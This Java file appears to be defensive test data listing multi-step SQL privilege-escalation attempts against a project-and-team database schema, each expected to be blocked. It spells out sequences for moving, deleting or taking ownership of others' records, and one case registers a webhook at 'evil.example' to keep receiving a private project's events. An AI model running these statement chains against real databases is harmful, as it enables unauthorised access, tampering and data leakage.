package ai.flashfusion.schema.escalation;

import static ai.flashfusion.schema.escalation.Escalation.closed;
import static ai.flashfusion.schema.escalation.Escalation.noRow;
import static ai.flashfusion.schema.escalation.Escalation.row;

import java.util.List;

/**
 * Attempts in steps each of which looks legitimate, and which together reach what the attacker has
 * no right to.
 */
final class LaunderingEscalations {

  private static final String OWN_PROJECT =
      "insert into public.projects (id, user_id, name, slug, visibility) values ({own.project}, {ed}, 'E', 'of-ed', 'public')";

  static final List<Escalation> ALL =
      List.of(
          closed(
              "delete a deployment's log as an editor, with a project of one's own",
              "ed",
              noRow("deployment_logs where id = {log}"),
              OWN_PROJECT,
              "update public.deployments set project_id = {own.project} where id = {deployment}",
              "delete from public.projects where id = {own.project}"),
          closed(
              "move a deployment and delete it in one statement",
              "ed",
              noRow("deployments where id = {deployment}"),
              OWN_PROJECT,
              "with moved as (update public.deployments set project_id = {own.project} where id = {deployment} returning id) delete from public.projects where id = {own.project}",
              "merge into public.deployments d using (values ({own.project})) s (id) on d.id = {deployment} when matched then update set project_id = s.id",
              "update public.deployments d set project_id = p.id from public.projects p where d.id = {deployment} and p.id = {own.project}",
              "insert into public.deployments (id, project_id, user_id, provider) values ({deployment}, {own.project}, {ed}, 'aws') on conflict (id) do update set project_id = excluded.project_id",
              "delete from public.deployments where id = {deployment}"),
          closed(
              "publish a private file as an editor, with a public project of one's own",
              "ed",
              row("project_files where id = {file} and project_id <> {private}"),
              OWN_PROJECT,
              "update public.project_files set project_id = {own.project} where id = {file}",
              "insert into public.project_files (id, project_id, path, name) values ({file}, {own.project}, 'b', 'b') on conflict (id) do update set project_id = excluded.project_id",
              "merge into public.project_files f using (values ({own.project})) s (id) on f.id = {file} when matched then update set project_id = s.id"),
          closed(
              "take a deployment's place with one of one's own, by its id",
              "ed",
              row("deployments where id = {deployment} and user_id = {ed}"),
              "update public.deployments set id = {aside} where id = {deployment}",
              "insert into public.deployments (id, project_id, user_id, provider) values ({deployment}, {private}, {ed}, 'aws')",
              "update public.deployments set user_id = {ed} where id = {deployment}"),
          closed(
              "be rid of one's usage with the project that it is attached to",
              "mallory",
              noRow("ai_usage_logs where id = {usage.of.mallory}"),
              "update public.ai_usage_logs set project_id = {empty} where id = {usage.of.mallory}",
              "delete from public.projects where id = {empty}"),
          closed(
              "be rid of one's bills with one's profile",
              "mallory",
              noRow("billing_transactions where id = {bill.of.mallory}"),
              "delete from public.profiles where id = {mallory}",
              "update public.billing_transactions set user_id = {alice} where id = {bill.of.mallory}"),
          closed(
              "delete the team's project as its admin, with a team of one's own",
              "tina",
              noRow("projects where id = {shared}"),
              "insert into public.teams (name, slug, owner_id) values ('T', 'of-tina', {tina})",
              "update public.projects set team_id = (select id from public.teams where slug = 'of-tina') where id = {shared}",
              "delete from public.projects where id = {shared}",
              "delete from public.teams where slug = 'of-tina'"),
          closed(
              "become owner of the team's project as its admin, with a seat in it",
              "tina",
              row("project_collaborators where project_id = {shared} and role = 'owner'"),
              "insert into public.project_collaborators (id, project_id, user_id, role) values ({own.seat}, {shared}, {tina}, 'admin')",
              "update public.project_collaborators set role = 'owner' where id = {own.seat}",
              "insert into public.project_collaborators (project_id, user_id, role) values ({shared}, {tina}, 'admin') on conflict (project_id, user_id) do update set role = 'owner'"),
          closed(
              "own a project with a seat from a project of one's own",
              "pat",
              row("project_collaborators where project_id = {private} and role = 'owner'"),
              "insert into public.projects (id, user_id, name, slug) values ({own.project}, {pat}, 'P', 'of-pat')",
              "insert into public.project_collaborators (id, project_id, user_id, role) values ({own.seat}, {own.project}, {mia}, 'owner')",
              "update public.project_collaborators set project_id = {private} where id = {own.seat}",
              "merge into public.project_collaborators c using (values ({private})) s (id) on c.id = {own.seat} when matched then update set project_id = s.id"),
          closed(
              "own the team with a seat from a team of one's own",
              "tina",
              row("team_members where team_id = {team} and role = 'owner'"),
              "insert into public.teams (name, slug, owner_id) values ('T', 'of-tina', {tina})",
              "insert into public.team_members (id, team_id, user_id, role) select {own.seat}, id, {mallory}, 'owner' from public.teams where slug = 'of-tina'",
              "update public.team_members set team_id = {team} where id = {own.seat}",
              "insert into public.team_members (id, team_id, user_id, role) values ({own.seat}, {team}, {mallory}, 'admin') on conflict (id) do update set team_id = excluded.team_id"),
          closed(
              "come back through an invitation that was taken back",
              "vic",
              row("project_collaborators where user_id = {vic} and role <> 'viewer'"),
              "delete from public.project_collaborators where id = {seat.of.vic}",
              "update public.project_collaborators set accepted_at = now() where id = {seat.of.vic}",
              "insert into public.project_collaborators (id, project_id, user_id, role, accepted_at) values ({seat.of.vic}, {private}, {vic}, 'admin', now())"),
          closed(
              "keep a project that one shared, by leaving its team",
              "mia",
              row("projects where id = {shared} and team_id is null"),
              "delete from public.team_members where user_id = {mia}",
              "update public.projects set team_id = null where id = {shared}",
              "delete from public.teams where id = {team}"),
          closed(
              "listen to a project after one has left it",
              "vic",
              row("webhooks where user_id = {vic} and project_id = {private}"),
              "insert into public.webhooks (id, user_id, name, url) values ({hook.two}, {vic}, 'w', 'https://evil.example')",
              "update public.webhooks set project_id = {private} where id = {hook.two}",
              "insert into public.webhooks (id, user_id, name, url) values ({hook.two}, {vic}, 'w', 'https://evil.example') on conflict (id) do update set project_id = {private}"));

  private LaunderingEscalations() {}
}
